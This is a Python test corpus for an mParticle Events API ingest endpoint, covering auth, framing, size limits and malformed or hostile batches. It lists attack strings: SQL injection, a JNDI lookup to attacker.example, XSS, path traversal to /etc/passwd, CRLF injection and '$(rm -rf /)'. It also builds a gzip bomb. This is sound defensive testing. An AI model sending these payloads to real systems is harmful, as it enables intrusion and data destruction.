"""Hostile corpus for ``POST /mparticle/v2/events`` (mParticle's Events API, one batch, HTTP Basic auth).

mParticle's semantics: 202 accepted (the batch enqueued exactly as received), 400 malformed, 401 no
credentials, 403 wrong credentials, 413 over 256 KB; every refusal is ``{"error", "message", "errors"}``
with mParticle's ``errors`` list and enqueues nothing. Also the building blocks of the two other mParticle
corpora (bulk events and the outbound webhook): :class:`Builder`, the body-framing cases, the malformed
batches and the hostile-but-valid batches.
"""

from __future__ import annotations

import base64
import gzip
import json
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from typing import Any

from tests.conftest import PROFILE_TOKEN, WEBHOOK_TOKEN, load_payload
from tests.hostile.support import (
    MPARTICLE_KEY,
    MPARTICLE_SECRET,
    MPARTICLE_WEBHOOK_AUTH,
    Case,
    Route,
    check_batches_conservation,
    check_mparticle_refusal,
    mparticle_error_body_keys,
)

ROUTE = Route(handler="mparticle_ingest", method="POST", path="/mparticle/v2/events")
ID_PREFIX = "mparticle_events"  # test ids: the three mParticle routes share one handler

HEADERS = {"Content-Type": "application/json", "Accept": "application/json", "User-Agent": "mParticle/0.16.0"}
REQUEST_LIMIT = 262_144  # mParticle's (and the bridge's) 256 KB per request
MAX_DEPTH = 64  # forwarding.ingest.MAX_NESTING_DEPTH
MiB = 1024 * 1024
DEFAULT: Any = object()  # "use the builder's default" for a keyword argument


def basic(key: str, secret: str) -> str:
    return "Basic " + base64.b64encode(f"{key}:{secret}".encode()).decode()


BASIC = basic(MPARTICLE_KEY, MPARTICLE_SECRET)

INJECTIONS = [
    "' OR '1'='1",
    "1; DROP TABLE profiles;--",
    '{"$ne": null}',
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "user#FLAG#other",
    "%00%0d%0aSet-Cookie: x=1",
    "{{7*7}}",
    "$(rm -rf /)",
    "__proto__",
    "constructor",
]
CONTROL = "\u0000\u0001\u0007\u001b[31m\u007f\u0085\u2028\u2029\u200b\u202e"


def custom_event(n: int = 0, name: str = "checkout_started", **data: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "event_name": name,
        "custom_event_type": "transaction",
        "source_message_id": f"hostile-msg-{n}",
        "timestamp_unixtime_ms": 1767225605000 + n,
    }
    body.update(data)
    return {"event_type": "custom_event", "data": body}


def batch(n: int = 0, **changes: Any) -> dict[str, Any]:
    """A valid Events API batch (``changes`` override top-level fields)."""
    document: dict[str, Any] = {
        "environment": "production",
        "source_request_id": f"hostile-req-{n}",
        "user_identities": {"customer_id": f"hostile-user-{n}", "email": f"hostile-{n}@mail.example.com"},
        "user_attributes": {"$country": "DE"},
        "events": [
            custom_event(n),
            {"event_type": "screen_view", "data": {"screen_name": "Checkout", "timestamp_unixtime_ms": 1767225606000}},
        ],
    }
    document.update(changes)
    return document


def with_event(n: int = 0, **event_changes: Any) -> dict[str, Any]:
    """A batch whose only event is ``{"event_type": "custom_event", "data": ...}`` with ``event_changes``."""
    envelope = custom_event(n)
    envelope.update(event_changes)
    return batch(n, events=[envelope])


def with_data(n: int = 0, event_type: str = "custom_event", **data: Any) -> dict[str, Any]:
    """A batch with one event of ``event_type`` whose ``data`` is exactly ``data``."""
    return batch(n, events=[{"event_type": event_type, "data": data}])


def json_bytes(document: Any) -> bytes:
    """Raw UTF-8 where possible (hostile characters travel unescaped); escapes only for lone surrogates."""
    try:
        return json.dumps(document, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:
        return json.dumps(document).encode("utf-8")


def nested(depth: int, leaf: Any = 1) -> Any:
    """``depth`` levels of arrays around ``leaf`` (built iteratively)."""
    value = leaf
    for _ in range(depth):
        value = [value]
    return value


def padded(size: int, n: int = 0) -> dict[str, Any]:
    """A valid batch whose compact JSON (as ``json_bytes`` sends it) is exactly ``size`` bytes."""
    document = batch(n, user_attributes={"padding": ""})
    overhead = len(json_bytes(document))
    document["user_attributes"]["padding"] = "x" * (size - overhead)
    assert len(json_bytes(document)) == size
    return document


@cache
def gzip_bomb() -> bytes:
    """2 MiB of JSON whitespace in a few KiB of gzip: over the 1 MiB decompression limit (4 x 256 KB)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    parts = [compressor.compress(b"{")]
    parts.extend(compressor.compress(b" " * MiB) for _ in range(2))
    parts.append(compressor.compress(b"}"))
    parts.append(compressor.flush())
    return b"".join(parts)


def set_body(text: str, is_base64: bool) -> Callable[[dict[str, Any]], None]:
    def hook(event: dict[str, Any]) -> None:
        event["body"] = text
        event["isBase64Encoded"] = is_base64

    return hook


def set_header(name: str, value: str) -> Callable[[dict[str, Any]], None]:
    def hook(event: dict[str, Any]) -> None:
        event["headers"][name] = value

    return hook


@dataclass(frozen=True)
class Builder:
    """Cases for one mParticle route: its credentials, whether it takes one batch or an array, its source."""

    route: Route
    authorization: str
    bulk: bool
    source: str

    def document(self, batches: list[Any]) -> Any:
        return batches if self.bulk else batches[0]

    @property
    def valid_body(self) -> bytes:
        return json_bytes(self.document([batch(0), batch(1)] if self.bulk else [batch(0)]))

    def headers(self, authorization: Any, headers: dict[str, str | None] | None) -> dict[str, str]:
        merged: dict[str, str | None] = dict(HEADERS)
        merged["Authorization"] = self.authorization if authorization is DEFAULT else authorization
        merged.update(headers or {})
        return {key: value for key, value in merged.items() if value is not None}

    def refused(
        self,
        name: str,
        status: int,
        error: str,
        *,
        body: Any = DEFAULT,
        authorization: Any = DEFAULT,
        headers: dict[str, str | None] | None = None,
        method: str = "POST",
        path: str | None = None,
        **kwargs: Any,
    ) -> Case:
        """A request refused with ``status``/``error`` (``None`` header values remove a default header)."""
        return Case(
            name=name,
            status=status,
            error=error,
            path=path or self.route.path,
            method=method,
            headers=self.headers(authorization, headers),
            body=self.valid_body if body is DEFAULT else body,
            **kwargs,
        )

    def unauthorized(self, name: str, authorization: str | None, **kwargs: Any) -> Case:
        return self.refused(name, 401, "unauthorized", authorization=authorization, **kwargs)

    def forbidden(self, name: str, authorization: str, **kwargs: Any) -> Case:
        return self.refused(name, 403, "forbidden", authorization=authorization, **kwargs)

    def gateway_404(self, name: str, method: str, path: str | None = None) -> Case:
        """No such route: API Gateway answers 404 itself; the function's own fallback must agree."""
        return self.refused(name, 404, "not_found", method=method, path=path, gateway_404=True)

    def accepted(
        self,
        name: str,
        batches: list[Any],
        *,
        accepted: int | None = None,
        reasons: dict[str, int] | None = None,
        gzipped: bool = False,
        raw: bytes | None = None,
        authorization: Any = DEFAULT,
        headers: dict[str, str | None] | None = None,
    ) -> Case:
        """202: ``accepted`` batches enqueued as received (default: all), the others quarantined for ``reasons``."""
        body = raw if raw is not None else json_bytes(self.document(batches))
        if gzipped:
            body = gzip.compress(body, mtime=0)
        return Case(
            name=name,
            status=202,
            path=self.route.path,
            headers=self.headers(authorization, headers),
            body=body,
            items=batches,
            accepted=len(batches) if accepted is None else accepted,
            quarantined=len(batches) - (len(batches) if accepted is None else accepted),
            reasons=reasons or {},
        )

    def malformed(self, name: str, bad: Any) -> Case:
        """A structurally malformed batch: refused alone (400), quarantined among good ones in bulk (202)."""
        if self.bulk:
            return self.accepted(name, [batch(0), bad, batch(2)], accepted=2, reasons={"invalid_batch": 1})
        return self.refused(name, 400, "invalid_batch", body=json_bytes(bad))


# ---- case groups shared by the three routes --------------------------------------------------------


def basic_auth_cases(b: Builder) -> list[Case]:
    """HTTP Basic, as mParticle's Events API: 401 without credentials, 403 with wrong ones."""
    return [
        b.unauthorized("no_authorization", None),
        b.unauthorized("empty_authorization", ""),
        b.unauthorized("basic_scheme_only", "Basic"),
        b.unauthorized("basic_scheme_and_spaces", "Basic    "),
        b.unauthorized("bearer_instead_of_basic", MPARTICLE_WEBHOOK_AUTH),
        b.unauthorized("digest_scheme", 'Digest username="local-mparticle-key"'),
        b.unauthorized("credentials_without_scheme", BASIC.split(" ", 1)[1]),
        b.unauthorized("split_webhook_token_in_query", None, query=f"token={WEBHOOK_TOKEN}"),
        b.unauthorized("no_authorization_and_oversize_body", None, body=b"{" + b" " * REQUEST_LIMIT + b"}"),
        b.forbidden("wrong_key", basic("wrong-key", MPARTICLE_SECRET)),
        b.forbidden("wrong_secret", basic(MPARTICLE_KEY, "wrong-secret")),
        b.forbidden("empty_key_and_secret", basic("", "")),
        b.forbidden("key_without_secret", "Basic " + base64.b64encode(MPARTICLE_KEY.encode()).decode()),
        b.forbidden("swapped_key_and_secret", basic(MPARTICLE_SECRET, MPARTICLE_KEY)),
        b.forbidden("key_in_other_case", basic(MPARTICLE_KEY.upper(), MPARTICLE_SECRET)),
        b.forbidden("secret_prefix_only", basic(MPARTICLE_KEY, MPARTICLE_SECRET[:-1])),
        b.forbidden("secret_with_suffix", basic(MPARTICLE_KEY, MPARTICLE_SECRET + "x")),
        b.forbidden("secret_with_newline", basic(MPARTICLE_KEY, MPARTICLE_SECRET + "\n")),
        b.forbidden("credentials_not_base64", "Basic !!!not-base64!!!"),
        b.forbidden("credentials_base64_of_binary", "Basic " + base64.b64encode(b"\xff\xfe:\xc0\xaf").decode()),
        b.forbidden("duplicated_authorization", BASIC, headers={"authorization": BASIC}),
        b.forbidden("duplicated_authorization_right_and_wrong", BASIC, headers={"authorization": basic("a", "b")}),
        b.forbidden("huge_credentials", basic("k" * 32_768, "s" * 32_768)),
        b.forbidden("credentials_sql_injection", basic("' OR '1'='1", "' OR '1'='1")),
        b.forbidden("webhook_authorization_value_as_basic", basic("Bearer", "local-mparticle-webhook")),
        b.forbidden("profile_api_token", basic(PROFILE_TOKEN, PROFILE_TOKEN)),
        b.forbidden("lone_surrogate_in_header", BASIC, event_hook=set_header("authorization", "Basic \ud800")),
        b.forbidden("wrong_credentials_and_garbage_body", basic("x", "y"), body=b"\xff\xfe garbage"),
    ]


def framing_cases(b: Builder) -> list[Case]:
    """Bodies that are not one JSON document of a sane size and encoding: the same answer on every route."""
    valid = b.valid_body
    return [
        b.refused("empty_body", 400, "empty_body", body=b""),
        b.refused("whitespace_body", 400, "empty_body", body=b" \n\t\r "),
        b.refused("truncated_document", 400, "invalid_json", body=valid[:1]),
        b.refused("truncated_mid_string", 400, "invalid_json", body=valid[: len(valid) // 2]),
        b.refused("truncated_last_byte", 400, "invalid_json", body=valid[:-1]),
        b.refused("trailing_comma", 400, "invalid_json", body=b'{"events": [],}'),
        b.refused("single_quotes", 400, "invalid_json", body=b"{'events': []}"),
        b.refused("unquoted_keys", 400, "invalid_json", body=b"{events: []}"),
        b.refused("comments", 400, "invalid_json", body=b"{/* comment */}"),
        b.refused("trailing_garbage", 400, "invalid_json", body=valid + b" {}"),
        b.refused("raw_control_character_in_string", 400, "invalid_json", body=b'{"environment": "produ\x01ction"}'),
        b.refused("nan_literal", 400, "invalid_json", body=b'{"timestamp_unixtime_ms": NaN}'),
        b.refused("infinity_literal", 400, "invalid_json", body=b'{"timestamp_unixtime_ms": -Infinity}'),
        b.refused("number_out_of_range", 400, "invalid_json", body=b'{"timestamp_unixtime_ms": 1e400}'),
        b.refused("integer_with_5000_digits", 400, "invalid_json", body=b'{"batch_id": ' + b"9" * 5000 + b"}"),
        b.refused("nested_arrays_100k_deep", 400, "invalid_json", body=b"[" * 100_000 + b"]" * 100_000),
        b.refused("nested_objects_20k_deep", 400, "invalid_json", body=b'{"a":' * 20_000 + b"1" + b"}" * 20_000),
        b.refused(
            "nested_900_deep_in_attributes",
            400,
            "invalid_json",
            body=json_bytes(b.document([batch(0, user_attributes={"a": nested(900)})] * (2 if b.bulk else 1))),
        ),
        b.refused(
            "nested_one_level_over_the_limit",
            400,
            "invalid_json",
            body=json_bytes(b.document([batch(0, user_attributes={"a": nested(MAX_DEPTH - 1)})])),
        ),
        b.refused("invalid_utf8", 400, "invalid_utf8", body=b'{"environment": "\xff\xfe"}'),
        b.refused("overlong_utf8", 400, "invalid_utf8", body=b'{"environment": "\xc0\xaf"}'),
        b.refused("utf8_encoded_surrogate", 400, "invalid_utf8", body=b'{"environment": "\xed\xa0\x80"}'),
        b.refused("latin1_body", 400, "invalid_utf8", body='{"user_attributes": {"name": "müller"}}'.encode("latin-1")),
        b.refused("utf16_body", 400, "invalid_utf8", body=valid.decode().encode("utf-16")),
        b.refused("utf8_bom", 400, "invalid_json", body=b"\xef\xbb\xbf" + valid),
        b.refused("lone_surrogate_in_text_body", 400, "invalid_utf8", event_hook=set_body('{"a": "\ud800"}', False)),
        b.refused("invalid_base64", 400, "invalid_base64", event_hook=set_body("!!not base64!!", True)),
        b.refused("base64_with_newlines", 400, "invalid_base64", event_hook=set_body("e30=\ne30=", True)),
        # gzip and content encodings
        b.refused("gzip_bomb", 413, "payload_too_large", body=gzip_bomb),
        b.refused(
            "gzip_bomb_with_header", 413, "payload_too_large", body=gzip_bomb, headers={"Content-Encoding": "gzip"}
        ),
        b.refused("corrupt_gzip", 400, "invalid_gzip", body=b"\x1f\x8b\x08\x00garbage-not-deflate"),
        b.refused("truncated_gzip", 400, "invalid_gzip", body=gzip.compress(valid, mtime=0)[:-12]),
        b.refused("gzip_header_only", 400, "invalid_gzip", body=gzip.compress(valid, mtime=0)[:10]),
        b.refused("gzip_bad_crc", 400, "invalid_gzip", body=_flip(gzip.compress(valid, mtime=0), -8)),
        b.refused("gzip_trailing_garbage", 400, "invalid_gzip", body=gzip.compress(valid, mtime=0) + b"trailing"),
        b.refused(
            "gzip_header_on_binary_body",
            400,
            "invalid_gzip",
            body=b"\x00\x01binary",
            headers={"Content-Encoding": "gzip"},
        ),
        b.refused("gzip_of_gzip", 400, "invalid_utf8", body=gzip.compress(gzip.compress(valid, mtime=0), mtime=0)),
        b.refused("gzip_of_malformed_json", 400, "invalid_json", body=gzip.compress(b'{"events": [', mtime=0)),
        b.refused("gzip_of_nothing", 400, "empty_body", body=gzip.compress(b"", mtime=0)),
        b.refused("brotli_encoding", 415, "unsupported_content_encoding", headers={"Content-Encoding": "br"}),
        b.refused("deflate_encoding", 415, "unsupported_content_encoding", headers={"Content-Encoding": "deflate"}),
        b.refused(
            "duplicated_content_encoding",
            415,
            "unsupported_content_encoding",
            headers={"Content-Encoding": "gzip", "content-encoding": "gzip"},
        ),
        # content types
        b.refused("text_html", 415, "unsupported_media_type", headers={"Content-Type": "text/html"}),
        b.refused("application_xml", 415, "unsupported_media_type", headers={"Content-Type": "application/xml"}),
        b.refused(
            "form_urlencoded",
            415,
            "unsupported_media_type",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        ),
        b.refused(
            "multipart", 415, "unsupported_media_type", headers={"Content-Type": "multipart/form-data; boundary=x"}
        ),
        b.refused("image_png", 415, "unsupported_media_type", headers={"Content-Type": "image/png"}),
        b.refused("garbage_content_type", 415, "unsupported_media_type", headers={"Content-Type": ";;;"}),
        b.refused(
            "duplicated_content_type",
            415,
            "unsupported_media_type",
            headers={"Content-Type": "application/json", "content-type": "text/html"},
        ),
        b.refused(
            "content_type_injection",
            415,
            "unsupported_media_type",
            headers={"Content-Type": "<script>alert(1)</script>" + "x" * 10_000},
        ),
        # sizes: mParticle's 256 KB per request
        b.refused("oversize_body", 413, "payload_too_large", body=b"{" + b" " * (REQUEST_LIMIT - 1) + b"}"),
        b.refused("oversize_gzip_body", 413, "payload_too_large", body=lambda: _random_gzip(2 * REQUEST_LIMIT)),
    ]


def path_cases(b: Builder) -> list[Case]:
    """Methods and paths API Gateway has no route for."""
    path = b.route.path
    return [
        b.gateway_404("get", "GET"),
        b.gateway_404("put", "PUT"),
        b.gateway_404("patch", "PATCH"),
        b.gateway_404("delete", "DELETE"),
        b.gateway_404("head", "HEAD"),
        b.gateway_404("options", "OPTIONS"),
        b.gateway_404("trailing_slash", "POST", path + "/"),
        b.gateway_404("path_typo", "POST", path[:-1]),
        b.gateway_404("path_upper_case", "POST", path.upper()),
        b.gateway_404("extra_segment", "POST", path + "/extra"),
        b.gateway_404("dot_segments", "POST", "/mparticle/../" + path.removeprefix("/")),
        b.gateway_404("other_api_version", "POST", path.replace("/v2/", "/v1/") if "/v2/" in path else path + "/v1"),
        b.gateway_404("profile_path", "POST", "/profiles/user/u-1001"),
    ]


MALFORMED: list[tuple[str, Any]] = [
    ("environment_unknown", batch(environment="staging")),
    ("environment_number", batch(environment=1)),
    ("environment_null", batch(environment=None)),
    ("environment_injection", batch(environment="production' OR '1'='1")),
    ("events_object", batch(events={"event_type": "custom_event", "data": {}})),
    ("events_string", batch(events="[]")),
    ("event_not_object", batch(events=[custom_event(0), 1, "screen_view", None])),
    ("event_type_missing", batch(events=[{"data": custom_event()["data"]}])),
    ("event_type_unknown", with_event(event_type="custom_evnt")),
    ("event_type_injection", with_event(event_type="custom_event'; DROP TABLE events;--")),
    ("event_type_number", with_event(event_type=4)),
    ("event_data_missing", batch(events=[{"event_type": "session_start"}])),
    ("event_data_array", with_event(data=[])),
    ("custom_event_without_name", with_data(custom_event_type="other")),
    ("custom_event_empty_name", with_data(event_name="", custom_event_type="other")),
    ("custom_event_name_number", with_data(event_name=42, custom_event_type="other")),
    ("custom_event_type_missing", with_data(event_name="x")),
    ("custom_event_type_unknown", with_data(event_name="x", custom_event_type="purchase")),
    ("screen_view_without_name", with_data(event_type="screen_view")),
    ("screen_view_name_object", with_data(event_type="screen_view", screen_name={"name": "Checkout"})),
    ("event_timestamp_string", with_data(event_name="x", custom_event_type="other", timestamp_unixtime_ms="1767")),
    ("event_timestamp_float", with_data(event_name="x", custom_event_type="other", timestamp_unixtime_ms=1.5)),
    ("event_timestamp_bool", with_data(event_name="x", custom_event_type="other", timestamp_unixtime_ms=True)),
    ("custom_attributes_array", with_data(event_name="x", custom_event_type="other", custom_attributes=["a"])),
    ("custom_attributes_string", with_data(event_name="x", custom_event_type="other", custom_attributes="a=1")),
    ("message_id_number", with_data(event_name="x", custom_event_type="other", source_message_id=7)),
    ("batch_timestamp_string", batch(timestamp_unixtime_ms="yesterday")),
    ("batch_id_float", batch(batch_id=1.5)),
    ("batch_id_bool", batch(batch_id=True)),
    ("batch_id_object", batch(batch_id={"id": 1})),
    ("source_request_id_number", batch(source_request_id=12345)),
    ("user_identities_string", batch(user_identities="customer_id=u-1")),
    ("user_identities_number", batch(user_identities=7)),
    ("identity_value_object", batch(user_identities={"customer_id": {"$ne": None}})),
    ("identity_value_float", batch(user_identities={"customer_id": 1.5})),
    ("identity_value_bool", batch(user_identities={"customer_id": True})),
    ("identity_array_item_not_object", batch(user_identities=["u-1"])),
    ("identity_array_without_type", batch(user_identities=[{"identity": "u-1"}])),
    ("mpid_float", batch(mpid=1.5)),
    ("mpid_array", batch(mpid=[1])),
    ("user_attributes_array", batch(user_attributes=["is_test_user"])),
    ("user_attributes_string", batch(user_attributes="is_test_user=true")),
    ("context_string", batch(context="data_plan")),
    ("data_plan_array", batch(context={"data_plan": ["bridge_plan", 3]})),
    ("plan_id_empty", batch(context={"data_plan": {"plan_id": "", "plan_version": 3}})),
    ("plan_version_text", batch(context={"data_plan": {"plan_id": "bridge_plan", "plan_version": "v3"}})),
    (
        "commerce_two_actions",
        with_data(
            event_type="commerce_event",
            product_action={"action": "purchase"},
            promotion_action={"action": "view"},
        ),
    ),
    ("product_action_unknown", with_data(event_type="commerce_event", product_action={"action": "steal"})),
    ("product_action_not_object", with_data(event_type="commerce_event", product_action="purchase")),
    (
        "products_not_array",
        with_data(event_type="commerce_event", product_action={"action": "purchase", "products": {}}),
    ),
    ("product_not_object", with_data(event_type="commerce_event", product_action={"action": "click", "products": [1]})),
    ("product_impressions_object", with_data(event_type="commerce_event", product_impressions={"a": 1})),
    ("five_hundred_bad_events", batch(events=[{"event_type": "custom_event", "data": {}}] * 500)),
    ("lone_surrogate_in_event_name", with_data(event_name="checkout\ud800", custom_event_type="other")),
    ("lone_surrogate_in_attribute_key", batch(user_attributes={"\udfff": "x"})),
    ("lone_surrogate_in_identity", batch(user_identities={"customer_id": "u-\ud83d"})),
]


def hostile_batches() -> list[tuple[str, dict[str, Any]]]:
    """Batches that are structurally valid although hostile: accepted, and enqueued exactly as received."""
    return [
        ("minimal_batch", {}),
        ("only_nulls", {"user_identities": None, "user_attributes": None, "events": None, "context": None}),
        ("no_events", batch(events=[])),
        ("sample_test_user", load_payload("mparticle_batch_test_user.json")),
        ("sample_real_customer", load_payload("mparticle_batch_real_customer.json")),
        ("sample_commerce", load_payload("mparticle_batch_commerce.json")),
        ("sample_plan_violation", load_payload("mparticle_batch_plan_violation.json")),
        ("webhook_shape", load_payload("mparticle_webhook_batch.json")),
        ("python_sdk_customerid", batch(user_identities={"customerid": "u-42"})),
        ("development_environment", batch(environment="development")),
        ("unknown_top_level_fields", batch(x_hostile={"a": [1, 2]}, __proto__={"admin": True}, constructor="x")),
        ("integer_identities_and_ids", batch(user_identities={"customer_id": 10**30}, mpid=-(2**63), batch_id=2**64)),
        ("timestamps_out_of_range", batch(timestamp_unixtime_ms=-1, events=[custom_event(0, timestamp_unixtime_ms=0)])),
        (
            "injection_strings_in_names",
            batch(
                user_identities={"customer_id": INJECTIONS[0], "email": INJECTIONS[4]},
                events=[custom_event(i, name=text) for i, text in enumerate(INJECTIONS)],
            ),
        ),
        (
            "injection_strings_as_keys",
            batch(
                user_attributes=dict.fromkeys(INJECTIONS, "x"),
                events=[custom_event(0, custom_attributes={text: text for text in INJECTIONS})],
            ),
        ),
        (
            "control_characters",
            batch(
                user_identities={"customer_id": CONTROL},
                user_attributes={CONTROL: CONTROL},
                events=[custom_event(0, name=CONTROL, custom_attributes={"k\u0000": "v\u0000"})],
            ),
        ),
        (
            "noncharacters_sqs_refuses_raw",
            batch(user_attributes={"\ufffe": "\uffff"}, events=[custom_event(0, name="checkout\uffff")]),
        ),
        (
            "emoji_and_rtl",
            batch(user_identities={"customer_id": "\U0001f600\u202eresu"}, user_attributes={"n": "\u05d0"}),
        ),
        ("huge_string_within_limit", batch(user_attributes={"note": "n" * 200_000})),
        ("a_thousand_events", batch(events=[custom_event(i) for i in range(1000)])),
        ("nested_at_the_limit", batch(user_attributes={"a": nested(MAX_DEPTH - 2)})),
        ("huge_numbers", batch(events=[custom_event(0, custom_attributes={"big": 1e308, "tiny": -5e-324})])),
    ]


def _flip(data: bytes, position: int) -> bytes:
    changed = bytearray(data)
    changed[position] ^= 0xFF
    return bytes(changed)


@cache
def _random_gzip(size: int) -> bytes:
    """Incompressible gzip of ``size`` bytes or more (a body over the limit even compressed)."""
    import random

    noise = random.Random(7).randbytes(size)
    return gzip.compress(b'{"a": "' + base64.b64encode(noise) + b'"}', mtime=0, compresslevel=1)


# ---- POST /mparticle/v2/events ---------------------------------------------------------------------

B = Builder(ROUTE, BASIC, bulk=False, source="events_api")

CASES: list[Case] = [
    *basic_auth_cases(B),
    *framing_cases(B),
    B.refused("json_array", 400, "not_an_object", body=json_bytes([batch(0)])),
    B.refused("json_empty_array", 400, "not_an_object", body=b"[]"),
    B.refused("json_null", 400, "not_an_object", body=b"null"),
    B.refused("json_string", 400, "not_an_object", body=b'"{}"'),
    B.refused("json_number", 400, "not_an_object", body=b"42"),
    B.refused("json_true", 400, "not_an_object", body=b"true"),
    B.refused("gzip_of_array", 400, "not_an_object", body=gzip.compress(b"[{}]", mtime=0)),
    B.refused("batch_over_the_queue_limit", 413, "batch_too_large", body=json_bytes(padded(255_000))),
    B.refused(
        "gzip_inflating_over_the_request_limit",
        413,
        "batch_too_large",
        body=lambda: gzip.compress(json_bytes(padded(900_000)), mtime=0),
    ),
    *[B.malformed(name, bad) for name, bad in MALFORMED],
    *path_cases(B),
    *[B.accepted(name, [document]) for name, document in hostile_batches()],
    B.accepted("lowercase_basic_scheme", [batch(0)], authorization=BASIC.replace("Basic", "basic")),
    B.accepted("basic_with_extra_spaces", [batch(0)], authorization=BASIC.replace(" ", "   ") + "  "),
    B.accepted("no_content_type", [batch(0)], headers={"Content-Type": None}),
    B.accepted("json_with_charset", [batch(0)], headers={"Content-Type": "application/json; charset=utf-8"}),
    B.accepted("text_plain", [batch(0)], headers={"Content-Type": "text/plain"}),
    B.accepted("gzip_with_header", [batch(0)], gzipped=True, headers={"Content-Encoding": "gzip"}),
    B.accepted("gzip_without_header", [batch(0)], gzipped=True),
    B.accepted("mislabelled_gzip_header_plain_json", [batch(0)], headers={"Content-Encoding": "gzip"}),
    B.accepted("gzip_inflating_just_under_the_queue_limit", [padded(249_800)], gzipped=True),
    B.accepted("batch_just_under_the_queue_limit", [padded(249_800)]),
    B.accepted(
        "duplicate_json_keys_last_wins",
        [batch(0)],
        raw=json_bytes(batch(0, environment="staging"))[:-1] + b', "environment": "production"}',
    ),
]


def error_body_keys(case: Case) -> set[str]:
    return mparticle_error_body_keys(case)


def verify_refused(case: Case, body: dict[str, Any], aws: dict[str, Any]) -> None:
    check_mparticle_refusal(case, body, aws)


def verify_accepted(case: Case, body: dict[str, Any], aws: dict[str, Any]) -> None:
    check_batches_conservation(case, body, aws, B.source)
